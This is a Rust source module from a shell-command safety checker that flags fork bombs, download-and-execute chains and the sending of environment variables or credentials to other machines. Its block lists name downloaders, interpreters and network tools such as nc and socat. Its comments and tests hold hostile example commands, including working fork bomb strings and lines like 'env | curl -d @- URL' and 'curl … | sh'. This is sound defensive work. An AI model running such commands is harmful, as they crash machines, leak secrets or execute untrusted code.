//! What only a sequence of commands shows: fork bombs (a function piping itself into itself
//! in the background) and download-and-execute (a downloader feeding an interpreter).

use std::sync::OnceLock;

use regex::Regex;

use super::*;
use crate::lex::{self, Simple};
use crate::wrappers::{basename, look_through};

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "http",
    "https",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
];
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "iex",
    "invoke-expression",
    "source",
    ".",
    "eval",
    "pwsh",
    "powershell",
];

/// How interpreters call fork (python, perl, ruby, php, node's cluster).
const FORK_CALLS: &[&str] = &[
    "os.fork()",
    "fork()",
    "fork;",
    "{ fork }",
    "{fork}",
    "pcntl_fork(",
    "cluster.fork(",
];
/// Loops that never end by themselves.
const ENDLESS_LOOPS: &[&str] = &[
    "while true",
    "while 1",
    "while(1)",
    "while (1)",
    "while(true)",
    "while (true)",
    "loop {",
    "loop do",
    "for(;;)",
    "for (;;)",
    "iter(int, 1)",
    "itertools.count(",
];

/// Words and the one-character operators `|`, `&`, `;` of a function body, in order.
fn fork_tokens(body: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut start = None;
    for (i, c) in body.char_indices() {
        let op = matches!(c, '|' | '&' | ';');
        if c.is_whitespace() || op {
            if let Some(s) = start.take() {
                out.push(&body[s..i]);
            }
            if op {
                out.push(&body[i..i + 1]);
            }
        } else if start.is_none() {
            start = Some(i);
        }
    }
    if let Some(s) = start {
        out.push(&body[s..]);
    }
    out
}

/// Fork bombs: a function that calls itself into the background, twice.
pub fn check_fork_bomb(text: &str) -> Option<Finding> {
    static R: OnceLock<Option<Regex>> = OnceLock::new();
    let re = R
        .get_or_init(|| {
            Regex::new(
                r"(?s)(?:\bfunction\s+([A-Za-z_:.][A-Za-z0-9_:.]*)\s*(?:\(\))?|([A-Za-z_:.][A-Za-z0-9_:.]*)\s*\(\))\s*\{(.*?)\}",
            )
            .ok()
        })
        .as_ref()?;
    // A function needs a body in braces: a line without one (most) skips the search.
    let bodies = text.contains('{').then(|| re.captures_iter(text));
    for cap in bodies.into_iter().flatten() {
        let Some(name) = cap.get(1).or(cap.get(2)).map(|m| m.as_str()) else {
            continue;
        };
        let body = cap.get(3).map_or("", |m| m.as_str());
        let tokens = fork_tokens(body);
        let calls_self_twice = tokens
            .windows(3)
            .any(|w| w[0] == name && w[1] == "|" && w[2] == name);
        let backgrounds = body.contains('&');
        if calls_self_twice && backgrounds {
            return Some(Finding {
                severity: Severity::Block,
                rule: "fork_bomb",
                message: "a fork bomb exhausts the machine's processes".into(),
                command: text.trim().chars().take(200).collect(),
            });
        }
    }
    let t = text.to_ascii_lowercase();
    // Interpreter one-liners: a fork call inside an endless loop.
    let forks = FORK_CALLS.iter().any(|f| t.contains(f));
    let endless = ENDLESS_LOOPS.iter().any(|l| t.contains(l));
    if t.contains("fork while fork")
        || t.contains("os.fork() while")
        || t.contains("while true; do $0")
        || (forks && endless)
    {
        return Some(Finding {
            severity: Severity::Block,
            rule: "fork_bomb",
            message: "a fork bomb exhausts the machine's processes".into(),
            command: text.trim().chars().take(200).collect(),
        });
    }
    None
}

fn downloads(c: &Simple) -> bool {
    look_through(c).argvs.iter().any(|a| {
        a.first()
            .is_some_and(|w| DOWNLOADERS.contains(&&*basename(w)))
    }) || c.substitutions.iter().any(downloads)
}

fn interprets(c: &Simple) -> bool {
    look_through(c).argvs.iter().any(|a| {
        a.first()
            .is_some_and(|w| INTERPRETERS.contains(&&*basename(w)))
    })
}

fn file_name(path: &str) -> String {
    path.rsplit(['/', '\\']).next().unwrap_or(path).to_string()
}

/// The files a downloader writes: `-o FILE`, `--output FILE`, wget `-O FILE`, else the
/// URL's last segment (`curl -O`, plain `wget URL`).
fn saved_files(c: &Simple) -> Vec<String> {
    let Some(first) = c.argv.first() else {
        return Vec::new();
    };
    let name = basename(first);
    if !matches!(&*name, "curl" | "wget") {
        return Vec::new();
    }
    let args = &c.argv[1..];
    let mut out = Vec::new();
    let mut remote_name = name == "wget";
    for (i, a) in args.iter().enumerate() {
        let value = args.get(i + 1).map(|v| file_name(v));
        match (&*name, a.as_str()) {
            (_, "-o" | "--output" | "--output-document") | ("wget", "-O") => {
                out.extend(value.filter(|v| v != "-"));
                remote_name = false;
            }
            ("curl", "-O" | "--remote-name") => remote_name = true,
            // Clustered short flags: `-sSLo FILE`, `-fsSLO`.
            ("curl", c) if c.len() > 2 && c.starts_with('-') && !c.starts_with("--") => {
                if c.ends_with('o') {
                    out.extend(value.filter(|v| v != "-"));
                } else if c.contains('O') {
                    remote_name = true;
                }
            }
            _ => {}
        }
    }
    if remote_name {
        out.extend(
            args.iter()
                .filter(|a| a.contains("://"))
                .map(|u| file_name(u.split(['?', '#']).next().unwrap_or(u))),
        );
    }
    out
}

/// The script a command runs: an interpreter's script operand, or a program run by path.
fn script_run(c: &Simple) -> Option<String> {
    let first = c.argv.first()?;
    // By path, relative or absolute (`./x`, `/tmp/x` after `curl -o /tmp/x`).
    if first.contains('/') {
        return Some(first.clone());
    }
    // Windows runs a program or script from the working directory by its name alone
    // (`x.exe`, `.\x.bat`).
    let lower = first.to_ascii_lowercase();
    if [".exe", ".bat", ".cmd", ".ps1", ".com"]
        .iter()
        .any(|e| lower.ends_with(e))
    {
        return Some(
            first
                .rsplit(['\\', '/'])
                .next()
                .unwrap_or(first)
                .to_string(),
        );
    }
    if interprets(c) {
        return c.argv[1..].iter().find(|a| !a.starts_with('-')).cloned();
    }
    None
}

/// Programs that send what they read to another machine.
pub(super) const SENDERS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "telnet", "http", "https", "xh",
    "mail", "sendmail", "mutt", "aws", "gsutil", "rclone",
];

/// The whole environment — the tokens it holds with it — piped to a program that sends it
/// elsewhere (`env | curl -d @- URL`, `printenv | nc host 9`, `cat /proc/self/environ |
/// nc host 9`, `cat .env | curl -d @- URL`, `history | nc host 9`).
/// The environment given to a sender inside its words: `wget "http://x/$(env | base64)"`.
fn sent_in_words(c: &lex::Simple) -> Option<Finding> {
    let name = basename(c.argv.first()?);
    (SENDERS.contains(&&*name) && c.substitutions.iter().any(reads_environment)).then(|| {
        finding(
            Severity::Warn,
            "secret_read",
            "sends an environment, and the tokens it holds, to another machine inside a request",
            &c.argv,
        )
    })
}

/// The whole environment sent or filtered for its credentials among `cmds`, one list of
/// commands (the rules on a line's shape hand over each list a line runs, its
/// substitutions' too: `rules/line_shapes.rs`).
pub(super) fn environment_sent(cmds: &[lex::Simple]) -> Option<Finding> {
    // The environment filtered for its credentials (`env | grep -i token`), or sent: what
    // follows each command, read only when some command reads an environment.
    let reading: Vec<bool> = cmds.iter().map(reads_environment).collect();
    if !reading.contains(&true) {
        return cmds.iter().find_map(sent_in_words);
    }
    let grep_after = super::pipeline::followed_by(cmds, |d| {
        d.argv
            .first()
            .is_some_and(|p| basename(p).ends_with("grep"))
            && d.argv[1..].iter().any(|a| names_credential(a))
    });
    let sender_after = super::pipeline::followed_by(cmds, |d| {
        look_through(d)
            .argvs
            .iter()
            .any(|a| a.first().is_some_and(|w| SENDERS.contains(&&*basename(w))))
    });
    cmds.iter().enumerate().find_map(|(i, c)| {
        if let Some(f) = sent_in_words(c) {
            return Some(f);
        }
        let whole_env = reading[i];
        // The environment filtered for its credentials (`env | grep -i token`): printed,
        // as `printenv GITHUB_TOKEN` prints one.
        let picked = whole_env && grep_after[i];
        if picked {
            return Some(finding(
                Severity::Warn,
                "secret_read",
                "prints the environment's credentials (the variables it picks out)",
                &c.argv,
            ));
        }
        let sent = whole_env && sender_after[i];
        sent.then(|| {
            finding(
                Severity::Warn,
                "secret_read",
                "sends an environment (variables, a .env file or the shell's history) and the \
                 tokens it holds to another machine",
                &c.argv,
            )
        })
    })
}

/// Whether a command (or one inside it) reads a whole environment: `env`, `printenv`,
/// `set`, the shell's `history`, `ps e`, `/proc/…/environ`, a `.env` file.
fn reads_environment(c: &lex::Simple) -> bool {
    let name = c.argv.first().map(|p| basename(p)).unwrap_or_default();
    let args = c.argv.get(1..).unwrap_or_default();
    (matches!(
        &*name,
        "env" | "printenv" | "export" | "set" | "declare" | "history"
    ) && args.iter().all(|a| a.starts_with('-')))
        || super::secrets::shows_environments(&name, args)
        || c.argv
            .iter()
            .skip(1)
            .chain(&c.reads)
            .any(|a| super::secrets::is_environment_file(a))
        || c.substitutions.iter().any(reads_environment)
}

/// Whether a `grep` pattern picks out credentials (`token`, `secret`, `key`, `pass`).
fn names_credential(pattern: &str) -> bool {
    let p = pattern.to_ascii_lowercase();
    !p.starts_with('-')
        && ["token", "secret", "key", "pass", "credential", "auth"]
            .iter()
            .any(|w| p.contains(w))
}

/// `curl … | sh`, `sh -c "$(curl …)"`, `bash <(wget …)`, `eval "$(curl …)"`, among `cmds`,
/// one list of commands (the rules on a line's shape hand over each list a line runs: its
/// substitutions', `echo $(curl … | sh)`, and the lines run inside it, `sh -c '…'`).
pub(super) fn download_executed(cmds: &[lex::Simple]) -> Option<Finding> {
    // What each command is, read once: asked of every pair of a long line's commands it made
    // judging a pipeline of 9,000 downloads take seconds.
    let interpreting: Vec<bool> = cmds.iter().map(interprets).collect();
    let interpreter_after = super::pipeline::followed_by(cmds, interprets);
    let pipeline_end = super::pipeline::pipeline_ends(cmds);
    // The last command running each file, by its name.
    let mut last_run: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
    for (j, d) in cmds.iter().enumerate() {
        if let Some(s) = script_run(d) {
            last_run.insert(file_name(&s), j);
        }
    }
    for (i, c) in cmds.iter().enumerate() {
        let piped = interpreter_after[i] && downloads(c);
        // `curl -o x.sh URL && bash x.sh`, `wget URL/i.sh; chmod +x i.sh; ./i.sh`: a later
        // command, of another pipeline, runs the very file the download wrote.
        let then_run = saved_files(c)
            .iter()
            .any(|f| last_run.get(f).is_some_and(|&j| j >= pipeline_end[i]));
        let substituted = interpreting[i] && c.substitutions.iter().any(downloads);
        if piped || substituted || then_run {
            return Some(finding(
                Severity::Warn,
                "download_execute",
                "runs code downloaded from the network",
                &c.argv,
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fork_bombs() {
        assert!(check_fork_bomb(":(){ :|:& };:").is_some());
        assert!(check_fork_bomb("bomb() { bomb | bomb & }; bomb").is_some());
        assert!(check_fork_bomb("function f { f|f& }; f").is_some());
        assert!(check_fork_bomb("f() { echo hi; }; f").is_none());
    }
}
